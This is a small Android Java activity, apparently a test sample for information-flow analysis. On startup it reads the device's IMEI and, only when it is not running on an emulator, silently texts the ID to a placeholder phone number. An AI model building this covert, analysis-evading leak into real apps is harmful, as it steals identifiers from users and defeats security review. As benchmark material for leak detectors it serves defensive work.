package org.consentry.flow.emulator.phonenumber;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String id = phone.getDeviceId();
        if (!id.startsWith("000000000")) {
            SmsManager.getDefault().sendTextMessage("+10000000", null, id, null, null);
        }
    }
}
